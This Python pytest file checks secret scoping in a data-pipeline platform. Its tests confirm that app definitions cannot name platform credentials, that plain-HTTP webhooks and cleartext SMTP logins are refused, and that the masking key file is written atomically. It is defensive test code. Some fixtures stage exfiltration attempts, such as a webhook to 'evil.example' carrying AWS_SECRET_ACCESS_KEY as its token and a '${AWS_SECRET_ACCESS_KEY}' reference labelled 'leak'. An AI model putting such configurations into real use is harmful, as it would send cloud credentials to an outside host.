"""Secrets are scoped (#19 finding 8): a definition names only its app's secrets, never the
platform's own credentials, refused at load with file:line and again at resolve time; `${VAR}`
in app.yaml goes through the same scope; plain-HTTP webhooks and password-over-cleartext SMTP
are refused at load. The install's masking key is made atomically (#19 finding 12)."""

from __future__ import annotations

import multiprocessing
import re
from pathlib import Path

import pytest

from datahub_assets.spec.errors import SpecErrors
from datahub_assets.spec.loader import load_project
from datahub_resources import secrets
from datahub_resources.settings import Settings
from tests.unit.spec_helpers import find_error, write

REPO = Path(__file__).resolve().parents[2]
PIPELINE = """<pipeline id="p" layer="bronze">
  <sources>{source}</sources>
  <targets><table table="p"/></targets>
</pipeline>
"""
CSV = '<csv id="s" path="p/*.csv"/>'
DB = '<database id="s" jdbcUrl="jdbc:postgresql://db:5432/app" userSecretRef="{ref}">' + (
    '<table name="public.t"/></database>'
)
JOB = """<jobPipeline id="j">
  <pipelines><pipelineRef id="p"/></pipelines>
  <notifications>
    <webhook {attrs} on="completion"/>
  </notifications>
</jobPipeline>
"""


@pytest.fixture(autouse=True)
def _default_policy(monkeypatch):
    for name in ("DATAHUB_SECRETS_ALLOW", "DATAHUB_WEBHOOK_ALLOW_HTTP", "DATAHUB_SMTP_CA_FILE"):
        monkeypatch.delenv(name, raising=False)


def _load_errors(root: Path, files: dict[str, str]) -> list:
    with pytest.raises(SpecErrors) as exc:
        load_project(write(root, files))
    return exc.value.errors


def _job(attrs: str) -> dict[str, str]:
    return {
        "shop/bronze/p.xml": PIPELINE.format(source=CSV),
        "shop/jobs/j.xml": JOB.format(attrs=attrs),
    }


# ----------------------------------------------------------------------------- resolve time


def test_resolve_never_returns_the_platforms_own_credentials(monkeypatch):
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "aws-value")
    monkeypatch.setenv("DATAHUB_CATALOG_URI", "postgresql://cat:pw@db/cat")
    for name in ("AWS_SECRET_ACCESS_KEY", "DATAHUB_CATALOG_URI"):
        with pytest.raises(KeyError, match=f"{name} is one of the platform's own") as exc:
            secrets.resolve(name)
        assert "aws-value" not in str(exc.value)
        assert "pw@" not in str(exc.value)
    monkeypatch.setenv("DATAHUB_SECRETS_ALLOW", "*")  # the allow-list cannot reach them
    with pytest.raises(secrets.SecretOutOfScope):
        secrets.resolve("AWS_SECRET_ACCESS_KEY", app="shop")


def test_an_app_reads_its_own_and_the_platform_prefixed_secrets_only(monkeypatch):
    for name in ("SHOP_DB", "CRM_DB", "DATAHUB_SECRET_SLACK", "HOME_DIR_X"):
        monkeypatch.setenv(name, f"value of {name}")
    assert secrets.resolve("SHOP_DB", app="shop") == "value of SHOP_DB"
    assert secrets.resolve("DATAHUB_SECRET_SLACK", app="shop") == "value of DATAHUB_SECRET_SLACK"
    with pytest.raises(secrets.SecretOutOfScope, match=r"CRM_DB is outside app shop's secrets"):
        secrets.resolve("CRM_DB", app="shop")
    with pytest.raises(secrets.SecretOutOfScope, match="allowed: SHOP_\\*, DATAHUB_SECRET_\\*"):
        secrets.resolve("HOME_DIR_X", app="shop")
    monkeypatch.setenv("DATAHUB_SECRETS_ALLOW", "{APP}_*, CRM_DB")  # the operator widens it
    assert secrets.resolve("CRM_DB", app="shop") == "value of CRM_DB"
    with pytest.raises(secrets.SecretOutOfScope):
        secrets.resolve("DATAHUB_SECRET_SLACK", app="shop")  # ... and replaces the default


def test_a_bad_allow_list_names_the_variable():
    with pytest.raises(ValueError, match=r"DATAHUB_SECRETS_ALLOW='\{APPNAME\}_\*'"):
        Settings.from_env({"DATAHUB_SECRETS_ALLOW": "{APPNAME}_*"})
    assert Settings.from_env({}).secrets_allow == ("{APP}_*", "DATAHUB_SECRET_*")
    allow = Settings.from_env({"DATAHUB_SECRETS_ALLOW": " A_* ,B_?  C"}).secrets_allow
    assert allow == ("A_*", "B_?", "C")


# -------------------------------------------------------------------------------- load time


def test_a_webhook_token_naming_a_platform_credential_is_refused_at_load(tmp_path):
    errors = _load_errors(
        tmp_path, _job('url="https://evil.example/x" tokenSecretRef="AWS_SECRET_ACCESS_KEY"')
    )
    find_error(
        errors, "shop/jobs/j.xml", 4, 'tokenSecretRef="AWS_SECRET_ACCESS_KEY"', "platform's own"
    )


def test_another_apps_secret_is_refused_at_load(tmp_path):
    files = {
        "shop/bronze/p.xml": PIPELINE.format(source=DB.format(ref="CRM_DB")),
        "crm/bronze/p.xml": PIPELINE.format(source=DB.format(ref="CRM_DB")),
        "crm_reports/bronze/p.xml": PIPELINE.format(source=DB.format(ref="CRM_REPORTS_DB")),
        "crm/bronze/q.xml": PIPELINE.format(source=DB.format(ref="CRM_REPORTS_DB"))
        .replace('id="p"', 'id="q"')
        .replace('table="p"', 'table="q"'),
    }
    errors = _load_errors(tmp_path, files)
    find_error(
        errors,
        "shop/bronze/p.xml",
        2,
        'userSecretRef="CRM_DB"',
        "outside app shop's secrets",
        "DATAHUB_SECRETS_ALLOW",
    )
    # CRM_REPORTS_* starts with CRM_ but belongs to app crm_reports
    find_error(errors, "crm/bronze/q.xml", 2, 'userSecretRef="CRM_REPORTS_DB"', "app crm_reports")
    assert {e.file for e in errors} == {"shop/bronze/p.xml", "crm/bronze/q.xml"}


def test_app_yaml_secret_refs_are_scoped_too(tmp_path):
    files = {
        "shop/bronze/p.xml": PIPELINE.format(source=CSV),
        "shop/app.yaml": "connections:\n"
        '  ok: {jdbcUrl: "jdbc:postgresql://h/db", userSecretRef: SHOP_DB}\n'
        '  crm: {jdbcUrl: "jdbc:postgresql://h/db", userSecretRef: PGPASSWORD}\n'
        "notifications:\n"
        "  smtp: {host: smtp.example.com, starttls: true, userSecretRef: DAGSTER_PG_PASSWORD}\n",
    }
    errors = _load_errors(tmp_path, files)
    find_error(errors, "shop/app.yaml", 3, 'userSecretRef="PGPASSWORD"', "platform's own")
    # notifications carry no line of their own: the file's, and the key path
    find_error(
        errors, "shop/app.yaml", 1, "notifications.smtp.userSecretRef", "DAGSTER_PG_PASSWORD"
    )
    assert len(errors) == 2


def test_env_references_in_app_yaml_are_scoped(tmp_path, monkeypatch):
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "aws-value")
    monkeypatch.setenv("SHOP_DB_HOST", "db.internal:5432")
    files = {
        "shop/bronze/p.xml": PIPELINE.format(source=CSV),
        "shop/app.yaml": "connections:\n"
        '  ok: {jdbcUrl: "jdbc:postgresql://${SHOP_DB_HOST}/db"}\n'
        '  leak: {jdbcUrl: "jdbc:postgresql://h/${AWS_SECRET_ACCESS_KEY:-x}"}\n',
    }
    errors = _load_errors(tmp_path, files)
    err = find_error(errors, "shop/app.yaml", 3, "${AWS_SECRET_ACCESS_KEY", "platform's own")
    assert "aws-value" not in str(err)
    assert len(errors) == 1
    files["shop/app.yaml"] = files["shop/app.yaml"].split("  leak")[0]
    project = load_project(write(tmp_path, files))
    assert (
        project.apps["shop"].connections["ok"].jdbc_url == "jdbc:postgresql://db.internal:5432/db"
    )


def test_plain_http_webhooks_are_refused_unless_loopback_or_allowed(tmp_path, monkeypatch):
    errors = _load_errors(tmp_path / "a", _job('url="http://hooks.example.com/x"'))
    find_error(
        errors,
        "shop/jobs/j.xml",
        4,
        'url="http://hooks.example.com/x"',
        "DATAHUB_WEBHOOK_ALLOW_HTTP=1",
    )
    app_default = {
        "shop/bronze/p.xml": PIPELINE.format(source=CSV),
        "shop/app.yaml": "notifications:\n  targets:\n"
        '    - webhook: {url: "http://hooks.example.com/sla", "on": sla}\n',
    }
    errors = _load_errors(tmp_path / "b", app_default)
    find_error(
        errors, "shop/app.yaml", 1, "notifications.targets[0]", "http://hooks.example.com/sla"
    )
    for host in ("127.0.0.1:8765", "localhost:8765", "[::1]:8765"):
        load_project(write(tmp_path / "c", _job(f'url="http://{host}/x"')))
    monkeypatch.setenv("DATAHUB_WEBHOOK_ALLOW_HTTP", "1")
    load_project(tmp_path / "a")
    load_project(tmp_path / "b")


def test_smtp_password_over_cleartext_is_refused_at_load(tmp_path):
    files = {
        "shop/bronze/p.xml": PIPELINE.format(source=CSV),
        "shop/app.yaml": "notifications:\n"
        "  smtp: {host: smtp.example.com, port: 587, userSecretRef: SHOP_SMTP}\n",
    }
    errors = _load_errors(tmp_path / "a", files)
    find_error(errors, "shop/app.yaml", 1, "notifications.smtp", "starttls: true or ssl: true")
    files["shop/app.yaml"] = files["shop/app.yaml"].replace(
        "port: 587", "port: 587, starttls: true"
    )
    load_project(write(tmp_path / "b", files))


def test_the_examples_fit_the_default_scope():
    """pipelines_xml/ loads under the default policy (its secrets are <APP>_*)."""
    names = set()
    for path in (REPO / "pipelines_xml").rglob("*"):
        if path.suffix in (".xml", ".yaml", ".yml"):
            text = re.sub(r"<!--.*?-->", "", path.read_text(), flags=re.S)
            text = re.sub(r"(?m)^\s*#.*$", "", text)  # comments name no secret
            app = path.relative_to(REPO / "pipelines_xml").parts[0].upper()
            for name in re.findall(
                r'[sS]ecretRef(?:="|: *)([A-Za-z0-9_]+)|\$\{([A-Za-z0-9_]+)', text
            ):
                found = name[0] or name[1]
                names.add(found)
                assert found.startswith(f"{app}_"), f"{path}: {found} is outside {app}_*"
    assert names  # the examples do name secrets
    load_project(REPO / "pipelines_xml")
    makefile = (REPO / "Makefile").read_text()
    assert "export CRM_PRODUCTS_MONGO_URI" in makefile


# --------------------------------------------------------------------------------- mask key


def _key_of(home: str, start, out) -> None:
    start.wait()
    try:
        out.put(secrets.default_mask_key(Path(home)))
    except Exception as exc:  # noqa: BLE001 - reported to the test
        out.put(f"{type(exc).__name__}: {exc}")


def test_concurrent_first_uses_of_the_install_key_read_one_full_key(tmp_path, monkeypatch):
    monkeypatch.delenv("DATAHUB_MASK_KEY", raising=False)
    ctx = multiprocessing.get_context("fork")
    for round_ in range(15):
        home = tmp_path / f"h{round_}"
        start, out = ctx.Barrier(6), ctx.Queue()
        procs = [ctx.Process(target=_key_of, args=(str(home), start, out)) for _ in range(6)]
        for p in procs:
            p.start()
        keys = [out.get(timeout=60) for _ in procs]
        for p in procs:
            p.join(timeout=60)
        assert len(set(keys)) == 1, keys
        assert re.fullmatch(r"[0-9a-f]{64}", keys[0]), keys
        key_file = home / "secrets" / "mask.key"
        assert key_file.stat().st_mode & 0o777 == 0o600
        assert [p.name for p in key_file.parent.iterdir()] == ["mask.key"]  # no temp left


def test_an_empty_key_file_is_an_error_not_an_empty_key(tmp_path, monkeypatch):
    monkeypatch.delenv("DATAHUB_MASK_KEY", raising=False)
    (tmp_path / "secrets").mkdir()
    (tmp_path / "secrets" / "mask.key").write_text("")
    with pytest.raises(ValueError, match="mask.key is empty"):
        secrets.default_mask_key(tmp_path)
